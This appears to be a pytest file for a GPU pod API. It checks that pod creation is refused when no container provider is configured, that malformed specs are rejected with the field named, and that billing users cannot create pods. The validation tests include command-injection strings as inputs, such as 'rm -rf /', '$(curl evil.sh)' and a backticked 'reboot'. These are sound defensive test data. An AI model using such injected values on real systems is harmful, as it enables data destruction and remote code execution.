"""Custom pods on the embedded default, which has no container provider: creating one is a
clear 409 (never a fake Running), the GPU list says so up front, and malformed specs are
refused naming the field before anything else."""

from __future__ import annotations

from typing import Any

import httpx
import pytest

from gptapi.models import Pod
from tests.support.console import Member, sign_in
from tests.support.platform import Platform

SPEC = {
    "image": "pytorch/pytorch:2.1.0-cuda12.1-cudnn8-runtime",
    "gpu_type": "NVIDIA GeForce RTX 4090",
}


def pods(member: Member) -> str:
    return f"/api/orgs/{member.org_id}/pods"


def test_no_container_provider_is_a_409_and_the_gpu_list_says_so(
    gpu: Platform, owner: Member
) -> None:
    refused = owner.client.post(pods(owner), json=SPEC)
    assert refused.status_code == 409, refused.text
    error = refused.json()["error"]
    assert error["code"] == "no_container_provider"
    assert "RUNPOD_API_KEY" in error["message"]
    assert owner.client.get(pods(owner)).json() == []
    assert gpu.rows(Pod.__table__.select()) == []
    gpus = httpx.get(f"{gpu.url}/api/compute/gpus").json()
    assert gpus and {g["pods_available"] for g in gpus} == {False}


@pytest.mark.parametrize(
    ("changes", "status", "param"),
    [
        ({"gpu_count": 3}, 422, "gpu_count"),
        ({"storage_gb": -1}, 422, "storage_gb"),
        ({"storage_gb": 5}, 422, "storage_gb"),  # a volume is 0 or at least 10 GB
        ({"gpu_type": "NVIDIA GeForce GTX 480"}, 400, "gpu_type"),
        ({"image": "ubuntu; rm -rf /"}, 422, "image"),
        ({"image": "ubuntu$(curl evil.sh)"}, 422, "image"),
        ({"image": "ubuntu:latest && sh"}, 422, "image"),
        ({"image": "`reboot`"}, 422, "image"),
        ({"cloud_type": "SPOT"}, 422, "cloud_type"),
        ({"ports": ["22/udp"]}, 422, "ports.0"),
        ({"env": {"A B": "x"}}, 422, "env.A B.[key]"),
        ({"name": "my pod; ls"}, 422, "name"),
        ({"volume_mount": "/workspace"}, 422, "volume_mount"),
    ],
)
def test_malformed_specs_are_refused_naming_the_field(
    owner: Member, changes: dict[str, Any], status: int, param: str
) -> None:
    response = owner.client.post(pods(owner), json={**SPEC, **changes})
    assert response.status_code == status, response.text
    assert response.json()["error"]["param"] == param


def test_the_billing_role_may_not_create_pods(gpu: Platform, owner: Member) -> None:
    billing = sign_in(gpu, org_id=owner.org_id, role="billing")
    try:
        assert billing.client.post(pods(owner), json=SPEC).status_code == 403
        assert billing.client.get(pods(owner)).status_code == 200
    finally:
        billing.client.close()
